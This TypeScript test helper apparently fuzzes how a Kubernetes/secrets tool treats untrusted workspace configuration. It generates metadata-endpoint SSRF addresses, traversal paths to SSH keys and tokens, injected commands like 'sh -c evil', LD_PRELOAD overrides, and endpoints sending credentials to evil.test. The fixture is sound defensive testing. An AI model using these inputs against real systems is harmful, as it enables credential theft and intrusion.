import type {Json, JsonObject} from '../../src/core/json.ts';
import type {Random} from './random-source.ts';

/** What a random workspace may lead to. Everything that is named `evil` is somebody else's, and never permitted without consent. */
export type Places = {
  /** The home of the user: keys of SSH, tokens of clouds. */
  readonly home: string;
  /** The checkout. */
  readonly project: string;
};

/** The clusters that may be contacted: of the user's own kubeconfig, and of one in the checkout that wants nothing. */
export const FREE_HOSTS = ['user-cluster.test', 'project-cluster.test', 'bucket.s3.eu-west-1.amazonaws.com'];
/** The login of the user's own kubeconfig. */
export const USER_PROGRAM = 'user-login';
/** Files of the user that no workspace may have opened. */
export const PRIVATE_FILES = ['.ssh/id_ed25519', '.netrc', '.vault-token', 'private/prod.yaml'];

const METADATA = [
  '169.254.169.254',
  '[::ffff:169.254.169.254]',
  '[::ffff:a9fe:a9fe]',
  '2852039166',
  '0xa9fea9fe',
  '0251.0376.0251.0376',
  '169.16689662',
  '169.254.169.254.',
  '%31%36%39.254.169.254',
  '①⑥⑨.254.169.254',
  '[fd00:ec2::254]',
  '[FD00:EC2:0:0:0:0:0:254]',
  '[fe80::a9fe:a9fe]',
  '100.100.100.200',
  'metadata.google.internal',
  'METADATA.google.internal.',
  'metadata',
  'instance-data',
];

const host = (random: Random): string =>
  random.chance(0.4)
    ? random.pick(METADATA)
    : random.pick([
        'evil.test',
        'evil.test:8443',
        'user-cluster.test.evil.test',
        '127.0.0.1:1',
        'localhost:1',
        '[::1]:1',
      ]);

const scheme = (random: Random): string =>
  random.pick(['https', 'https', 'https', 'http', 'HTTPS', 's3', 'file', 'ftp', 'gopher', 'hTTp']);

const address = (random: Random): string =>
  `${scheme(random)}://${random.chance(0.15) ? 'user:word@' : ''}${host(random)}${random.pick(['', '/', '/k', '/%2e%2e/k?a=b', '/k#x', '/${VICTIM_TOKEN}'])}`;

function path(random: Random, {home, project}: Places): string {
  const file = random.pick([...PRIVATE_FILES, ...PRIVATE_FILES, '.ssh', '', 'private']);
  return random.pick([
    `${home}/${file}`,
    `~/${file}`,
    `$HOME/${file}`,
    '${HOME}/' + file,
    `../../home/${file}`,
    `./../..//home/./${file}`,
    `${project}/../home/${file}`,
    `file://${home}/${file}`,
    'link-to-private',
    '../link-to-private',
    '../directory-link/id_ed25519',
    '../loop',
    '../fifo',
    '/dev/zero',
    '/dev/stdin',
    '/etc/passwd',
    '$VICTIM_TOKEN',
    '~root/x',
    '\\\\evil.test\\share',
    '..',
    '../secrets',
    '../secrets/.env',
    '../kubeconfig',
    '../kubeconfig-evil',
    '~/.kube/config',
    '../own-link',
    '',
    'a\u0000b',
  ]);
}

const text = (random: Random): string =>
  random.pick(['a', 'b', 'default', 'test', '../x', '$VICTIM_TOKEN', '${x}', 'ref://a', '*', 'é', '']);
const reference = (random: Random): string =>
  random.pick([
    'ref://secret',
    'ref://evil@secret/key',
    'ref://default@a',
    'ref+env://VICTIM_TOKEN',
    'VICTIM_TOKEN',
    'ref://',
    'ref://../../a',
  ]);
const command = (random: Random): readonly string[] =>
  random.pick([
    ['sh', '-c', 'evil'],
    ['evil'],
    ['./evil.sh'],
    ['../evil.sh', '--flag'],
    ['git', '-c', 'alias.x=!evil', 'x'],
    ['aws', 'eks', 'get-token', '--endpoint-url', 'https://evil.test'],
    ['kubelogin', 'get-token', '--exec', 'evil'],
    ['gke-gcloud-auth-plugin'],
    ['/usr/bin/env', 'evil'],
    [''],
  ]);

const exec = (random: Random): JsonObject => {
  const [program = '', ...args] = command(random);
  return {
    apiVersion: 'client.authentication.k8s.io/v1',
    command: program,
    args,
    interactiveMode: 'Never',
    ...(random.chance(0.3) ? {env: [{name: random.pick(['PATH', 'LD_PRELOAD', 'A']), value: '/evil'}]} : {}),
  };
};

/** A kubeconfig of somebody else's. */
export function randomKubeconfig(random: Random, places: Places): JsonObject {
  const user = random.pick<() => JsonObject>([
    () => ({}),
    () => ({token: 'evil'}),
    () => ({token: 'evil', username: 'a', password: 'b'}),
    () => ({token: 'evil'}),
    () => ({token: 'evil'}),
    () => ({exec: exec(random)}),
    () => ({tokenFile: path(random, places)}),
    () => ({'client-certificate': path(random, places), 'client-key': path(random, places)}),
    () => ({'auth-provider': {name: 'gcp', config: {'cmd-path': 'evil', 'cmd-args': 'a'}}}),
    () => ({
      'auth-provider': {
        name: 'oidc',
        config: {'idp-issuer-url': 'https://evil.test', 'idp-certificate-authority': path(random, places)},
      },
    }),
  ])();
  return {
    apiVersion: 'v1',
    kind: 'Config',
    'current-context': 'c',
    contexts: [{name: 'c', context: {cluster: 'c', user: 'u', namespace: text(random)}}],
    clusters: [
      {
        name: 'c',
        cluster: {
          server: random.chance(0.3) ? 'https://project-cluster.test:6443' : address(random),
          ...(random.chance(0.1) ? {'insecure-skip-tls-verify': true} : {}),
          ...(random.chance(0.1) ? {'certificate-authority': path(random, places)} : {}),
          ...(random.chance(0.15) ? {'proxy-url': address(random)} : {}),
          ...(random.chance(0.1) ? {'tls-server-name': 'evil.test'} : {}),
        },
      },
    ],
    users: [{name: 'u', user}],
  };
}

function provider(random: Random, places: Places): JsonObject {
  const kinds: Readonly<Record<string, () => JsonObject>> = {
    env: () => (random.chance(0.5) ? {} : {prefix: random.pick(['VICTIM_', '', 'SHOP_'])}),
    file: () => ({path: path(random, places)}),
    sops: () => ({path: path(random, places), ...(random.chance(0.5) ? {keyFile: path(random, places)} : {})}),
    vault: () => ({
      server: address(random),
      ...(random.chance(0.3) ? {caFile: path(random, places)} : {}),
      ...(random.chance(0.7)
        ? {
            auth: random.pick<JsonObject>([
              {token: reference(random)},
              {appRole: {roleId: text(random), secretId: reference(random)}},
              {kubernetes: {role: 'r', tokenFile: path(random, places)}},
              {kubernetes: {role: 'r'}},
              {jwt: {role: 'r', tokenFile: path(random, places)}},
              {jwt: {role: 'r', token: reference(random)}},
            ]),
          }
        : {}),
    }),
    aws: () => ({
      ...(random.chance(0.5) ? {region: 'eu-west-1'} : {}),
      ...(random.chance(0.3) ? {profile: text(random)} : {}),
      ...(random.chance(0.6) ? {endpoint: address(random)} : {}),
    }),
    azure: () => ({vaultUrl: address(random), ...(random.chance(0.5) ? {tenantId: text(random)} : {})}),
    gcp: () => ({project: 'p', ...(random.chance(0.6) ? {endpoint: address(random)} : {})}),
    alicloud: () => ({region: 'cn-hangzhou', ...(random.chance(0.6) ? {endpoint: address(random)} : {})}),
    kubernetes: () => ({
      namespace: 'default',
      ...(random.chance(0.5) ? {workspace: random.pick(['other', 'test', 'base'])} : {}),
    }),
    exec: () => ({command: [...command(random)], ...(random.chance(0.3) ? {env: {PATH: '/evil'}} : {})}),
  };
  const kind = random.pick(Object.keys(kinds));
  return {provider: {[kind]: kinds[kind]?.() ?? {}}};
}

const VARIABLES = [
  'PATH',
  'LD_PRELOAD',
  'NODE_OPTIONS',
  'KUBECONFIG',
  'KUBE_EDITOR',
  'GIT_SSH_COMMAND',
  'AWS_REGION',
  'AWS_PROFILE',
  'AWS_CONFIG_FILE',
  'AWS_ENDPOINT_URL',
  'AWS_CA_BUNDLE',
  'AWS_CONTAINER_CREDENTIALS_FULL_URI',
  'AWS_ROLE_ARN',
  'AWS_WEB_IDENTITY_TOKEN_FILE',
  'GOOGLE_CREDENTIALS',
  'GOOGLE_APPLICATION_CREDENTIALS',
  'ARM_CLIENT_ID',
  'AZURE_AUTHORITY_HOST',
  'VAULT_ADDR',
  'VAULT_TOKEN',
  'HTTPS_PROXY',
  'SSL_CERT_FILE',
  'TF_VAR_size',
  'TF_CLI_ARGS',
  'SHOP_MODE',
  'OTEL_EXPORTER_OTLP_ENDPOINT',
];

const value = (random: Random, places: Places): string =>
  random.pick([() => 'plain', () => address(random), () => path(random, places), () => reference(random)])();

const someVariables = (random: Random, places: Places): JsonObject =>
  Object.fromEntries(random.some(VARIABLES, 0.03).map((name) => [name, value(random, places)]));

function kubeconfigKeys(random: Random, places: Places): JsonObject {
  const content = (): string => {
    const written = JSON.stringify(randomKubeconfig(random, places));
    return random.chance(0.3) ? Buffer.from(written).toString('base64') : written;
  };
  return random.pick<() => JsonObject>([
    () => ({}),
    () => ({kubeconfig_path: '~/.kube/config'}),
    () => ({kubeconfig_path: path(random, places)}),
    () => ({kubeconfig_path: random.pick(['../kubeconfig', '../kubeconfig-evil', '~/.kube/config', '../own-link'])}),
    () => ({kubeconfig_path: address(random)}),
    () => ({
      kubeconfig_path: {
        url: address(random),
        ...(random.chance(0.4) ? {caFile: path(random, places)} : {}),
        ...(random.chance(0.4) ? {bearer: reference(random)} : {}),
        ...(random.chance(0.2) ? {basic: {username: 'a', password: reference(random)}} : {}),
        ...(random.chance(0.3) ? {endpoint: address(random)} : {}),
      },
    }),
    () => ({kubeconfig_content: content()}),
    () => ({KUBECONFIG_CONTENT: content()}),
    () => ({KUBECONFIG_PATH: path(random, places)}),
    () => ({kubeconfig_content: reference(random)}),
    () => ({
      kubeconfig_secret: {
        workspace: random.pick(['other', 'test', 'base', '../evil']),
        namespace: 'default',
        name: 'k',
      },
    }),
  ])();
}

function oidc(random: Random, places: Places): JsonObject {
  return {
    issuer: address(random),
    clientId: text(random) || 'c',
    ...(random.chance(0.3) ? {clientSecret: reference(random)} : {}),
    ...(random.chance(0.3) ? {caFile: path(random, places)} : {}),
    ...(random.chance(0.4) ? {tokenFile: path(random, places)} : {}),
    ...(random.chance(0.3) ? {tokenEnv: 'VICTIM_TOKEN'} : {}),
    ...(random.chance(0.2) ? {githubAudience: 'evil'} : {}),
  };
}

/** A workspace that somebody else has written: any of the known keys, with values that lead away. */
export function randomWorkspace(random: Random, places: Places, name: string): JsonObject {
  const also = (probability: number, make: () => JsonObject): JsonObject => (random.chance(probability) ? make() : {});
  const trust: Json = {
    programs: random.pick<Json>(['all', ['sh', 'evil', 'git'], [['git', 'status']]]),
    localFiles: true,
    insecureTls: true,
  };
  return {
    ...also(0.5, () => ({name})),
    context: {
      ...kubeconfigKeys(random, places),
      ...also(0.2, () => ({kube_context: text(random)})),
      ...someVariables(random, places),
    },
    ...also(0.2, () => ({secretStore: provider(random, places)})),
    ...also(0.2, () => ({secretStores: {evil: provider(random, places), b: provider(random, places)}})),
    ...also(0.15, () => ({identity: {oidc: oidc(random, places)}})),
    ...also(0.2, () => ({env: someVariables(random, places)})),
    ...also(0.2, () => ({trust})),
    ...also(0.2, () => ({
      extends: random.pick(['base', 'other', './base.yaml', path(random, places), path(random, places)]),
    })),
    ...also(0.1, () => ({
      modules: {m: {path: random.pick(['oci://evil.test/m', path(random, places)]), version: '1'}},
    })),
    ...also(0.1, () => ({labels: {tier: text(random)}})),
  };
}

/** What a project.yaml says of its backend. */
export const randomBackend = (random: Random, places: Places): JsonObject =>
  random.pick<() => JsonObject>([
    () => ({}),
    () => ({}),
    () => ({backend: `kubernetes://${random.pick(['test', 'other', 'base'])}`}),
    () => ({backend: {s3: {bucket: 'bucket', region: 'eu-west-1', endpoint: address(random)}}}),
    () => ({backend: {s3: {bucket: 'bucket', region: 'eu-west-1', caFile: path(random, places)}}}),
    () => ({
      backend: {
        s3: {
          bucket: 'bucket',
          region: 'eu-west-1',
          endpoint: address(random),
          ...(random.chance(0.5) ? {caFile: path(random, places)} : {}),
          ...(random.chance(0.5)
            ? {credentials: {accessKeyId: reference(random), secretAccessKey: reference(random)}}
            : {}),
        },
      },
    }),
  ])();
